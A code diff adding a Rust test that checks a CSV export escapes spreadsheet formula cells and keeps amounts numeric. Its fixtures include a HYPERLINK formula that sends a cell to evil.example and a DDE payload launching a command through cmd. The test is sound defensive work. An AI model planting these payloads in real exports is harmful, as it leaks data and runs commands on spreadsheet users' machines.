@@ -137,3 +137,67 @@ fn csv_of_each_list_has_its_header_and_one_row_per_record() {
     let csv = to_csv_string(&[withdrawal]).unwrap();
     assert!(csv.contains(",pix,fiat/brl,320.50,"), "{csv}");
 }
+
+/// The cells of a CSV file, read back as a spreadsheet's importer would.
+fn csv_cells(path: &std::path::Path) -> Vec<Vec<String>> {
+    let mut reader = csv::Reader::from_path(path).unwrap();
+    reader
+        .records()
+        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
+        .collect()
+}
+
+/// A wallet named with a formula and a payer's field starting with `@`, as
+/// a service (or whoever named them) may send them: the saved file holds
+/// them as text (a leading `'`), and the amounts stay plain numbers.
+#[test]
+fn exported_text_that_would_run_as_a_formula_is_saved_as_text() {
+    use brlv_desk::app::export::{ExportRecords, ExportRequest, write_export};
+    let dir = tempfile::tempdir().unwrap();
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#;
+
+    let mut wallet = fixture::<WalletsEnvelope>("wallets.json").wallets.remove(0);
+    wallet.name = Some(formula.to_owned());
+    let path = dir.path().join("wallets.csv");
+    write_export(&ExportRequest {
+        path: path.clone(),
+        records: ExportRecords::Wallets(vec![wallet]),
+    })
+    .unwrap();
+    let rows = csv_cells(&path);
+    assert_eq!(rows[0][0], format!("'{formula}"), "{rows:?}");
+
+    let mut deposits: DepositsEnvelope = serde_json::from_value(serde_json::json!({
+        "deposits": [{
+            "id": "1f6c9b7e-4a0d-4c7f-9e8a-3b2d1c0e9f87",
+            "type": "pix",
+            "amount": "-12.50",
+            "status": "credited",
+            "coordinates": {
+                "source-tax-id": "@SUM(1+1)*cmd|' /C calc'!A0",
+                "source-type": "+checking",
+                "target": "-1+1",
+            },
+        }],
+    }))
+    .unwrap();
+    let path = dir.path().join("deposits.csv");
+    write_export(&ExportRequest {
+        path: path.clone(),
+        records: ExportRecords::Deposits(std::mem::take(&mut deposits.deposits)),
+    })
+    .unwrap();
+    let rows = csv_cells(&path);
+    let row = &rows[0];
+    assert_eq!(row[3], "-12.50", "an amount stays a number: {row:?}");
+    assert_eq!(row[6], "'@SUM(1+1)*cmd|' /C calc'!A0", "{row:?}");
+    assert_eq!(row[8], "'+checking", "{row:?}");
+    assert_eq!(row[11], "'-1+1", "{row:?}");
+    for cell in row {
+        assert!(
+            !cell.starts_with(['=', '+', '@', '\t', '\r'])
+                && (!cell.starts_with('-') || cell.parse::<Decimal>().is_ok()),
+            "{cell:?} would run in a spreadsheet"
+        );
+    }
+}
